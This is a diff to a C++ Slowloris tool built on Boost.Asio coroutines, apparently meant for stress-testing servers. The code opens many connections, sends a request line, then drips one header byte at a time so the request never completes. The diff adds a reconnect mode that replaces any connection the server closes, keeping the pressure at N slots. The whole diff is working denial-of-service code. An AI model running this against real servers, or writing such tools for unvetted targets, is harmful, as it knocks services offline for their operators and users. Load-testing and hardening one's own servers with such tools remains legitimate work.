@@ -4,7 +4,8 @@
 //
 // Each connection is a writer coroutine (the byte drip) plus a reader coroutine that waits
 // for whatever the server sends: its first line is kept as the answer, and EOF or an error
-// is the server closing. At duration_s every connection still open is closed from this side.
+// is the server closing. With reconnect, a connection the server closed is replaced at once,
+// so the count stays at N. At duration_s every connection still open is closed from this side.
 #include <algorithm>
 #include <iostream>
 #include <map>
@@ -35,6 +36,7 @@ namespace json = boost::json;
 using tcp = asio::ip::tcp;
 
 constexpr auto kConnectTimeout = std::chrono::seconds(10);
+constexpr auto kReconnectPause = std::chrono::milliseconds(100);
 constexpr std::size_t kMaxStatusLine = 200;
 // Dripped one byte at a time, over and over: header lines that never include the empty line.
 constexpr std::string_view kDrip = "X-Slow: a\r\n";
@@ -98,46 +100,56 @@ asio::awaitable<void> ReadAnswers(SlowWorker& worker, std::shared_ptr<SlowConnec
   if (!c->first_line.empty()) ++worker.tally.answers[c->first_line];
 }
 
+// One connection slot: connect, drip until the server closes or the run ends; with
+// `reconnect`, a slot the server closed connects again.
 asio::awaitable<void> Drip(SlowRun& run, SlowWorker& worker, int index) {
   auto executor = co_await asio::this_coro::executor;
   SlowTally& t = worker.tally;
   asio::steady_timer tick(executor);
   tick.expires_at(run.start + Seconds(run.options.ramp_s * index / run.options.connections));
   co_await tick.async_wait(kNoThrow);
-  if (Clock::now() >= run.end) co_return;
 
-  beast::tcp_stream connecting(executor);
-  connecting.expires_at(std::min(Clock::now() + kConnectTimeout, run.end));
-  auto [connect_ec] = co_await connecting.async_connect(run.endpoint, kNoThrow);
-  if (connect_ec) {
-    ++t.connect_failed;
-    co_return;
-  }
-  ++t.accepted;
-  auto c = std::make_shared<SlowConnection>(connecting.release_socket());
-  c->connected = Clock::now();
-  asio::co_spawn(executor, ReadAnswers(worker, c), asio::detached);
+  while (Clock::now() < run.end) {
+    beast::tcp_stream connecting(executor);
+    connecting.expires_at(std::min(Clock::now() + kConnectTimeout, run.end));
+    auto [connect_ec] = co_await connecting.async_connect(run.endpoint, kNoThrow);
+    if (connect_ec) {
+      if (Clock::now() >= run.end) break;
+      ++t.connect_failed;
+      if (!run.options.reconnect) break;
+      tick.expires_at(std::min(Clock::now() + kReconnectPause, run.end));
+      co_await tick.async_wait(kNoThrow);
+      continue;
+    }
+    ++t.accepted;
+    auto c = std::make_shared<SlowConnection>(connecting.release_socket());
+    c->connected = Clock::now();
+    asio::co_spawn(executor, ReadAnswers(worker, c), asio::detached);
 
-  auto [line_ec, line_bytes] =
-      co_await asio::async_write(c->socket, asio::buffer(run.request_line), kNoThrow);
-  t.bytes_sent += static_cast<std::int64_t>(line_bytes);
-  if (line_ec) MarkClosed(t, *c);
-  for (std::size_t next = 0; !c->closed;) {
-    tick.expires_at(std::min(Clock::now() + std::chrono::milliseconds(run.options.interval_ms), run.end));
-    co_await tick.async_wait(kNoThrow);
-    if (c->closed || Clock::now() >= run.end) break;
-    auto [byte_ec, byte_bytes] =
-        co_await asio::async_write(c->socket, asio::buffer(&kDrip[next++ % kDrip.size()], 1), kNoThrow);
-    t.bytes_sent += static_cast<std::int64_t>(byte_bytes);
-    if (byte_ec) MarkClosed(t, *c);
+    auto [line_ec, line_bytes] =
+        co_await asio::async_write(c->socket, asio::buffer(run.request_line), kNoThrow);
+    t.bytes_sent += static_cast<std::int64_t>(line_bytes);
+    if (line_ec) MarkClosed(t, *c);
+    for (std::size_t next = 0; !c->closed;) {
+      tick.expires_at(
+          std::min(Clock::now() + std::chrono::milliseconds(run.options.interval_ms), run.end));
+      co_await tick.async_wait(kNoThrow);
+      if (c->closed || Clock::now() >= run.end) break;
+      auto [byte_ec, byte_bytes] = co_await asio::async_write(
+          c->socket, asio::buffer(&kDrip[next++ % kDrip.size()], 1), kNoThrow);
+      t.bytes_sent += static_cast<std::int64_t>(byte_bytes);
+      if (byte_ec) MarkClosed(t, *c);
+    }
+    const bool closed_by_server = c->closed;
+    if (!closed_by_server) {
+      ++t.still_open;
+      c->ending = true;
+    }
+    beast::error_code ignored;
+    c->socket.shutdown(tcp::socket::shutdown_both, ignored);
+    c->socket.close(ignored);
+    if (!closed_by_server || !run.options.reconnect) break;
   }
-  if (!c->closed) {
-    ++t.still_open;
-    c->ending = true;
-  }
-  beast::error_code ignored;
-  c->socket.shutdown(tcp::socket::shutdown_both, ignored);
-  c->socket.close(ignored);
 }
 
 }  // namespace
@@ -198,6 +210,7 @@ int RunSlowloris(const SlowlorisOptions& options) {
   report["path"] = options.path;
   report["connections"] = options.connections;
   report["interval_ms"] = options.interval_ms;
+  report["reconnect"] = options.reconnect;
   report["duration_s"] = options.duration_s;
   report["accepted"] = total.accepted;
   report["connect_failed"] = total.connect_failed;
@@ -208,7 +221,7 @@ int RunSlowloris(const SlowlorisOptions& options) {
   report["still_open"] = total.still_open;
   report["answered"] = std::move(answers);
   report["bytes_sent"] = total.bytes_sent;
-  std::cout << json::serialize(report) << std::endl;
+  std::cout << ReportJson(report) << std::endl;
   return 0;
 }
 
